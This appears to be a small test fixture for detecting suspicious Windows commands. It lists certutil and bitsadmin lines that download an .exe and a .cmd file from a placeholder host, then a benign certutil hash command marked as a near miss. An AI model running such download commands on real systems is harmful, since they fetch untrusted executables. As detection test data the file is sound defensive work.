certutil -urlcache -f https://a.invalid/a.exe a.exe
bitsadmin /transfer j https://a.invalid/a.cmd a.cmd
# near misses
certutil -hashfile a.zip SHA256
